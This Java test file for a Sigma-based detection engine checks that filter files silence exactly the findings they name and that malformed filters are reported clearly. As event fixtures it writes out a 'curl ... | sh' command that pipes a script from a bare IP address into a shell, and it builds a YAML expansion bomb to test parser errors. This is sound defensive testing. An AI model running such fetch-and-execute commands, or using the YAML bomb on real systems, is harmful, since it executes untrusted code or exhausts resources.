package io.vigil.detect.filter;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.vigil.common.testing.TestData;
import io.vigil.detect.engine.DetectionEngine;
import io.vigil.detect.engine.Finding;
import io.vigil.detect.engine.RuleCatalog;
import io.vigil.detect.filter.FilterVerdict.Kind;
import io.vigil.proto.v1.Event;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A Sigma filter file silences exactly the events it names (issue 5), run through the real rule
 * catalog and engine on a starter rule, and every filter file gets a verdict.
 */
class FilterSetTest {
  /** Starter rule "Download Piped Into a Shell" (detect/rules/process). */
  private static final String PIPED = "cda69d48-9272-4d83-8728-5f25a1a2b2e9";

  private static final String DOCKER_RULE = "7e0c4c44-0000-4000-8000-000000000001";
  private static final String FILTER_ID = "5b0f1c1e-2a8e-4c4b-9a53-0d0c2f1a7e10";

  private static final String PROVISIONING_FILTER =
      """
      title: Provisioning installs Docker the documented way
      id: %s
      description: ansible runs get.docker.com's install script piped into sh on new hosts
      logsource:
        product: linux
        category: process_creation
      filter:
        rules:
          - %s   # Download Piped Into a Shell
        selection:
          User: ansible
          CommandLine|contains: 'https://get.docker.com '
        condition: selection
      """;

  @TempDir Path dir;

  /** A, silenced: ansible pipes the Docker install script into sh; both rules match it. */
  private static final Event A =
      Events.exec(1, "ansible", "/usr/bin/bash", "bash -c curl -fsSL https://get.docker.com | sh");

  /** B, near miss on the URL: ansible pipes some other script into sh. */
  private static final Event B =
      Events.exec(2, "ansible", "/usr/bin/bash", "bash -c curl -fsSL http://203.0.113.9/x.sh | sh");

  /** C, near miss on the user: root does exactly what A does. */
  private static final Event C =
      Events.exec(3, "root", "/usr/bin/bash", "bash -c curl -fsSL https://get.docker.com | sh");

  /** D: ansible fetches the script into a checksum tool: only the other rule matches. */
  private static final Event D =
      Events.exec(
          4, "ansible", "/usr/bin/bash", "bash -c curl -fsSL https://get.docker.com | sha256sum");

  private static final List<Event> EVENTS = List.of(A, B, C, D);

  private Path write(Path d, String name, String text) throws IOException {
    Files.createDirectories(d);
    Path file = d.resolve(name);
    Files.writeString(file, text);
    return file;
  }

  /** The starter process rules plus one rule of our own that also matches event A. */
  private DetectionEngine engine() throws IOException {
    Path rules = dir.resolve("rules");
    write(
        rules,
        "docker_install_script.yml",
        """
        title: Docker install script fetched
        id: %s
        logsource:
          product: linux
          category: process_creation
        detection:
          selection:
            CommandLine|contains: get.docker.com
          condition: selection
        """
            .formatted(DOCKER_RULE));
    RuleCatalog catalog =
        RuleCatalog.load(List.of(Path.of("rules/process").toAbsolutePath(), rules));
    assertTrue(catalog.activeRule(rules.resolve("docker_install_script.yml")).isPresent());
    return catalog.engine();
  }

  /** {@code ruleId@seq} for each finding. */
  private static Set<String> keys(List<Finding> findings) {
    Set<String> out = new TreeSet<>();
    findings.forEach(f -> out.add(f.ruleId() + "@" + f.event().getSeq()));
    return out;
  }

  private static List<Finding> evaluate(DetectionEngine engine) {
    List<Finding> all = new ArrayList<>();
    EVENTS.forEach(e -> all.addAll(engine.evaluate(e)));
    return all;
  }

  @Test
  void aFilterSilencesExactlyTheEventsItSelectsForTheRulesItNames() throws IOException {
    write(
        dir.resolve("filters"),
        "mf_provisioning.yml",
        PROVISIONING_FILTER.formatted(FILTER_ID, PIPED));
    FilterLoad load = FilterSet.load(List.of(dir.resolve("filters")));
    assertEquals(1, load.verdicts().size());
    FilterVerdict v = load.verdicts().get(0);
    assertEquals(Kind.LOADED, v.kind(), v.describe());
    assertTrue(v.loaded());

    List<Finding> all = evaluate(engine());
    // Without the filter: the starter rule fires on A, B and C, ours on A, C and D.
    assertEquals(
        Set.of(
            PIPED + "@1",
            PIPED + "@2",
            PIPED + "@3",
            DOCKER_RULE + "@1",
            DOCKER_RULE + "@3",
            DOCKER_RULE + "@4"),
        keys(all));

    FilterSet filters = load.filters();
    List<Finding> kept = filters.unsilenced(all);
    // Only the starter rule on A is gone: not B (other URL), not C (other user), not our rule on
    // A or D (the filter does not name it).
    Set<String> expected = new TreeSet<>(keys(all));
    expected.remove(PIPED + "@1");
    assertEquals(expected, keys(kept));

    String label = FILTER_ID + " (" + dir.resolve("filters/mf_provisioning.yml") + ")";
    assertEquals(Map.of(label, 1L), filters.silencedCounts());
    assertEquals(label, filters.silencedBy(PIPED, A).orElseThrow());
    assertEquals(Map.of(label, 2L), filters.silencedCounts());
    assertTrue(filters.silencedBy(DOCKER_RULE, A).isEmpty());
    assertTrue(filters.silencedBy(PIPED, B).isEmpty());
    assertTrue(filters.silencedBy(PIPED, C).isEmpty());
    assertEquals(0, filters.errors());
  }

  @Test
  void rulesMayBeNamedByNameWhenTheNamesAreGiven() throws IOException {
    write(
        dir, "mf_by_name.yml", PROVISIONING_FILTER.formatted(FILTER_ID, "download_piped_to_shell"));
    FilterSet byRef = FilterSet.load(List.of(dir)).filters();
    assertTrue(byRef.silencedBy(PIPED, A).isEmpty(), "the name alone does not say which id it is");

    FilterSet named = byRef.withRuleNames(Map.of("download_piped_to_shell", PIPED));
    assertTrue(named.silencedBy(PIPED, A).isPresent());
    assertTrue(named.silencedBy(PIPED, C).isEmpty());
    assertTrue(named.silencedBy(DOCKER_RULE, A).isEmpty());
    assertEquals(List.of(), named.unknownRules(Set.of(PIPED)));
    assertEquals(
        1, byRef.unknownRules(Set.of(PIPED)).size(), byRef.unknownRules(Set.of(PIPED)).toString());
  }

  @Test
  void aFilterOnlySilencesEventsOfAKindItsLogSourceCovers() throws IOException {
    // Same rule, a selection exec event A would satisfy, but under network_connection.
    write(
        dir,
        "mf_network.yml",
        """
        title: Shell connections from ansible
        logsource:
          product: linux
          category: network_connection
        filter:
          rules: [%s]
          selection:
            Image|endswith: /bash
            User: ansible
          condition: selection
        """
            .formatted(PIPED));
    FilterLoad load = FilterSet.load(List.of(dir));
    assertEquals(Kind.LOADED, load.verdicts().get(0).kind(), load.verdicts().get(0).describe());
    assertTrue(load.filters().silencedBy(PIPED, A).isEmpty());
    assertEquals(0L, load.filters().silencedCounts().values().iterator().next());
  }

  @Test
  void theSpecificationsSampleFiltersParseAndAreNotApplicableOnVigil() throws IOException {
    Path samples = TestData.require("sigma-spec/tests/schema/filter");
    FilterLoad load = FilterSet.load(List.of(samples));
    assertEquals(2, load.verdicts().size(), load.verdicts().toString());
    for (FilterVerdict v : load.verdicts()) {
      assertEquals(Kind.NOT_APPLICABLE, v.kind(), v.describe());
      assertFalse(v.loaded());
      assertFalse(v.filter().isEmpty(), "it was read: " + v.describe());
    }
    assertTrue(
        load.verdicts().get(0).detail().contains("product windows"),
        load.verdicts().get(0).describe());
    assertTrue(
        load.verdicts().get(1).detail().contains("category network"),
        load.verdicts().get(1).describe());
    assertTrue(load.filters().isEmpty());
    assertEquals(
        "2 filter files: 0 in force; loaded 0, unfilled fields 0, not applicable 2, error 0",
        load.summary());
  }

  @Test
  void aFilterNamingFieldsVigilNeverFillsIsReported() throws IOException {
    String head =
        "title: %s\nlogsource:\n  product: linux\n  category: process_creation\nfilter:\n  rules: ["
            + PIPED
            + "]\n";
    Path useless =
        write(
            dir,
            "useless.yml",
            head.formatted("useless")
                + "  sel:\n    OriginalFileName: abc.exe\n  condition: sel\n");
    Path wider =
        write(
            dir,
            "wider.yml",
            head.formatted("wider")
                + "  sel:\n    User: ansible\n  hashed:\n    OriginalFileName: abc.exe\n"
                + "  condition: sel and not hashed\n");
    Path partly =
        write(
            dir,
            "partly.yml",
            head.formatted("partly")
                + "  sel:\n    User: ansible\n  hashed:\n    OriginalFileName: abc.exe\n"
                + "  condition: sel or hashed\n");
    FilterLoad load = FilterSet.load(List.of(dir));
    Map<Path, FilterVerdict> byFile = new java.util.HashMap<>();
    load.verdicts().forEach(v -> byFile.put(v.file(), v));

    FilterVerdict u = byFile.get(useless);
    assertEquals(Kind.UNFILLED_FIELDS, u.kind());
    assertFalse(u.loaded());
    assertEquals(Set.of("OriginalFileName"), u.unfilledFields());
    assertTrue(u.detail().contains("can never silence anything"), u.describe());

    FilterVerdict w = byFile.get(wider);
    assertFalse(w.loaded());
    assertTrue(w.detail().contains("silence more than written"), w.describe());

    FilterVerdict p = byFile.get(partly);
    assertTrue(p.loaded(), p.describe());
    assertEquals(Kind.UNFILLED_FIELDS, p.kind());
    assertEquals(1, load.filters().filters().size());
    assertTrue(load.filters().silencedBy(PIPED, A).isPresent(), "the User branch still works");
    assertTrue(load.filters().silencedBy(PIPED, C).isEmpty());
  }

  @Test
  void malformedFilterFilesGetVerdictsNamingThePlaceNotExceptions() throws IOException {
    String ls = "logsource:\n  product: linux\n  category: process_creation\n";
    String ok = "  sel:\n    User: ansible\n  condition: sel\n";
    Map<String, String> files = new java.util.LinkedHashMap<>();
    files.put("no_rules.yml", "title: t\n" + ls + "filter:\n" + ok);
    files.put("empty_rules.yml", "title: t\n" + ls + "filter:\n  rules: []\n" + ok);
    files.put("rules_map.yml", "title: t\n" + ls + "filter:\n  rules: {a: b}\n" + ok);
    files.put(
        "no_condition.yml", "title: t\n" + ls + "filter:\n  rules: [x]\n  sel:\n    User: a\n");
    files.put(
        "bad_modifier.yml",
        "title: t\n"
            + ls
            + "filter:\n  rules: [x]\n  sel:\n    Image|endswithh: /sh\n  condition: sel\n");
    files.put(
        "bad_condition.yml",
        "title: t\n" + ls + "filter:\n  rules: [x]\n  sel:\n    User: a\n  condition: sel and\n");
    files.put("no_title.yml", ls + "filter:\n  rules: [x]\n" + ok);
    files.put("no_logsource.yml", "title: t\nfilter:\n  rules: [x]\n" + ok);
    files.put("a_rule.yml", "title: t\n" + ls + "detection:\n" + ok);
    files.put("not_yaml.yml", "title: [unclosed\n");
    files.put(
        "two_docs.yml", "title: t\n" + ls + "filter:\n  rules: [x]\n" + ok + "---\ntitle: u\n");
    StringBuilder bomb = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for (int i = 1; i < 9; i++) {
      bomb.append("a").append(i).append(": &a").append(i).append(" [");
      for (int j = 0; j < 10; j++) {
        bomb.append(j == 0 ? "" : ", ").append("*a").append(i - 1);
      }
      bomb.append("]\n");
    }
    files.put("yaml_bomb.yml", "title: t\n" + ls + bomb + "filter:\n  rules: [x]\n" + ok);
    files.put("dup_a.yml", "title: a\nid: same\n" + ls + "filter:\n  rules: [x]\n" + ok);
    files.put("dup_b.yml", "title: b\nid: same\n" + ls + "filter:\n  rules: [x]\n" + ok);
    for (Map.Entry<String, String> e : files.entrySet()) {
      write(dir, e.getKey(), e.getValue());
    }
    Files.write(dir.resolve("not_utf8.yml"), new byte[] {'t', ':', ' ', (byte) 0xff, '\n'});

    FilterLoad load = FilterSet.load(List.of(dir));
    Map<String, FilterVerdict> byName = new java.util.HashMap<>();
    load.verdicts().forEach(v -> byName.put(v.file().getFileName().toString(), v));
    assertEquals(files.size() + 1, load.verdicts().size());

    Map<String, String> expected = new java.util.LinkedHashMap<>();
    expected.put("no_rules.yml", "filter.rules: missing");
    expected.put("empty_rules.yml", "filter.rules: must list at least one value");
    expected.put("rules_map.yml", "filter.rules: must be a text value");
    expected.put("no_condition.yml", "filter.condition: missing");
    expected.put("bad_modifier.yml", "filter.sel.Image|endswithh");
    expected.put("bad_condition.yml", "filter.condition");
    expected.put("no_title.yml", "title: missing");
    expected.put("no_logsource.yml", "logsource: missing");
    expected.put("a_rule.yml", "filter: missing: a detection rule");
    expected.put("not_yaml.yml", "invalid YAML");
    expected.put("two_docs.yml", "2 YAML documents");
    expected.put("yaml_bomb.yml", "YAML");
    expected.put("dup_b.yml", "id: filter id same already loaded from");
    expected.put("not_utf8.yml", "not valid UTF-8");
    expected.forEach(
        (name, text) -> {
          FilterVerdict v = byName.get(name);
          assertEquals(Kind.ERROR, v.kind(), v.describe());
          assertFalse(v.loaded());
          assertTrue(v.detail().contains(text), name + ": " + v.describe());
        });
    assertEquals(Kind.LOADED, byName.get("dup_a.yml").kind(), byName.get("dup_a.yml").describe());
    assertEquals(1, load.filters().filters().size());
  }
}
